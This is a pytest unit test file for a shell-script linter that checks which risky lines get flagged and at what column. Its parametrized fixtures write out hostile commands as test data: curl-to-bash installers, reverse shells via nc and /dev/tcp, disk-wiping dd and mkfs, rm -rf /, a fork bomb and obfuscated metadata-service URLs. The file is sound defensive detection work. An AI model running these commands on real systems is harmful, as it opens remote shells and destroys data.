"""What scripts do, read from their syntax and not from their looks."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from atomctl.rules.script import foreign_code, shell_code
from atomctl.rules.shell import read_argv, read_script

if TYPE_CHECKING:
    from tests.unit.rules.conftest import Validate


@pytest.mark.parametrize(
    ("line", "rule", "column"),
    [
        ("curl -s https://get.example.com/i | sudo -E bash -", "download-to-shell", 37),
        ("wget -O- https://get.example.com/i | python3", "download-to-shell", 38),
        ("bash <(curl -s https://get.example.com)", "download-to-shell", 6),
        ('sh -c "$(curl -fsSL https://get.example.com)"', "download-to-shell", 7),
        (". <(curl -s https://get.example.com)", "download-to-shell", 3),
        ("echo aGk= | base64 -d | sh", "download-to-shell", 25),
        ("curl -o f https://get.example.com && sh f", "download-to-shell", 41),
        ("curl https://get.example.com > f; chmod +x f; ./f", "download-to-shell", 47),
        ("bash <<'END'\ncurl https://get.example.com | sh\nEND", "download-to-shell", 32),
        ("rm -rf $HOME/tmp", "rm-variable", 8),
        ('sudo rm -fr -- "$1"', "rm-variable", 16),
        ("rm -rf /", "rm-variable", 8),
        ("chmod 0777 /x", "world-writable", 7),
        ("chmod -R a+rwx x", "world-writable", 10),
        ("su - postgres -c psql", "sudo", 1),
        ("eval $CMD", "eval", 6),
        ('bash -c "echo $X"', "eval", 9),
        ("bomb() { bomb | bomb & }; bomb", "fork-bomb", 1),
        ("nc -e /bin/sh 192.0.2.1 99", "reverse-shell", 1),
        ("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "reverse-shell", 12),
        ("dd if=/dev/zero of=/dev/sda", "destroys-disk", 17),
        ("mkfs.ext4 /dev/sdb", "destroys-disk", 1),
        ("kubectl delete ns shop", "mass-delete", 1),
        ("docker run -v /var/run/docker.sock:/s x", "container-tool-privileged", 12),
        ("docker run --pid=host x", "container-tool-privileged", 12),
        ("echo ${{ params.x }}", "parameter-in-code", 6),
        ('eval "$ATOM_PARAM_X"', "parameter-in-code", 6),
        ('ssh db.shop.svc "ls $ATOM_PARAM_X"', "parameter-in-code", 17),
        ('python3 -c "$ATOM_PARAM_X"', "parameter-in-code", 12),
        ('awk "{print $ATOM_PARAM_X}" f', "parameter-in-code", 5),
        ("sh <<END\necho $ATOM_PARAM_X\nEND", "parameter-in-code", 1),
        ("$ATOM_PARAM_CMD x", "parameter-in-code", 1),
        ("ls $ATOM_PARAM_X", "unquoted-parameter", 4),
        ("curl http://2852039166/", "script-reaches-metadata", 6),
        ("curl http://0xa9.0xfe.0xa9.0xfe/", "script-reaches-metadata", 6),
        ("curl http://[::ffff:169.254.169.254]/", "script-reaches-metadata", 6),
        ("env A=1 timeout 5 curl https://api.example.com", "script-reaches-internet", 24),
        ("git clone https://git.example.com/a", "script-reaches-internet", 11),
        ("ssh deploy@host.example.com ls", "script-reaches-internet", 5),
    ],
)
def test_what_a_line_does_is_found_where_it_stands(validate: Validate, line: str, rule: str, column: int) -> None:
    assert validate.script(f"#!/bin/bash\n{line}\n")[rule].column == column


@pytest.mark.parametrize(
    "line",
    [
        "curl https://files.shop.svc/a.tar | tar xz",
        'rm -rf "${DIR:?}/cache"',
        "rm -rf ./build",
        'rm -r "$(mktemp -d)"',
        "rm -f $FILE",
        "chmod u+x run",
        "bash scripts/other.sh",
        "bash -c 'echo done'",
        "eval echo hi",
        'echo "$ATOM_PARAM_X"',
        '[ -n "$ATOM_PARAM_X" ] && echo yes',
        'cat "$ATOM_PARAM_X" | sort',
        "echo 'curl https://get.example.com | sh'",
        "# curl https://get.example.com | sh",
        "cat <<'END'\nsudo rm -rf $X\nEND",
        "dd if=/dev/zero of=/dev/null",
        "kubectl delete pod web-0",
        "curl https://localhost:8443/health",
        "step() { echo a | sort; }; step",
    ],
)
def test_what_only_looks_like_it_is_left_alone(validate: Validate, line: str) -> None:
    assert validate.script(f"#!/bin/sh\n{line}\n") == {}


def test_words_lose_their_quotes() -> None:
    (command,) = read_script('a \'b c\' "d\\"e" f\\ g h\'i\'"j"', "s").commands
    assert [word.text for word in command.words] == ["b c", 'd"e', "f g", "hij"]


def test_offsets_count_characters() -> None:
    script = "echo 'é漢'; sudo ls"
    assert read_script(script, "s").commands[-1].offset == script.index("sudo")


def test_wrappers_come_off_the_front() -> None:
    (command,) = read_script("sudo -u root env A=1 nohup timeout 5 rm -rf x", "s").commands
    assert command.name == "rm"
    assert [word.text for word in command.wrappers] == ["sudo", "env", "nohup", "timeout"]


def test_code_handed_on_is_read_four_levels_deep() -> None:
    names = [command.name for command in read_script("sh -c 'bash -c \"sudo id\"'", "s").commands]
    assert names == ["sh", "bash", "id"]


def test_an_argument_vector_is_not_expanded() -> None:
    facts = read_argv([("rm", ("command", 0)), ("-rf", ("command", 1)), ("$HOME", ("command", 2))], "s")
    assert facts.commands[0].words[1].static
    assert facts.hit(2, "x").path == ("command", 2)


def test_shell_code_and_foreign_code_are_told_apart() -> None:
    shell, perl = read_script("sh -c 'ls'; perl -e 'print 1'", "s").commands[0::2]
    assert shell_code(shell) is not None
    assert foreign_code(shell) is None
    assert shell_code(perl) is None
    assert foreign_code(perl) is not None


def test_what_is_no_shell_is_said(validate: Validate) -> None:
    found = validate.script("#!/bin/sh\nif then (( fi ))\n")
    assert found["unreadable-script"].line >= 1


@pytest.mark.parametrize("text", ["ls\n" * 50_000, "$(" * 3_000 + ")" * 3_000, "(" * 3_000 + ")" * 3_000])
def test_a_script_too_long_or_too_deep_is_cut_and_not_understood(validate: Validate, text: str) -> None:
    assert read_script(text, "s").cut
    found = validate({"scripts/a.sh": "#!/bin/sh\n" + text})
    assert found.not_understood == ("scripts/a.sh",)
    assert "oversized-script" in {finding.rule for finding in found.findings}


def test_all_scripts_of_a_package_have_one_budget(validate: Validate) -> None:
    files = {f"scripts/{n}.sh": "#!/bin/sh\n" + "#" * 120_000 for n in range(5)}
    assert validate(files).not_understood == ("scripts/4.sh",)
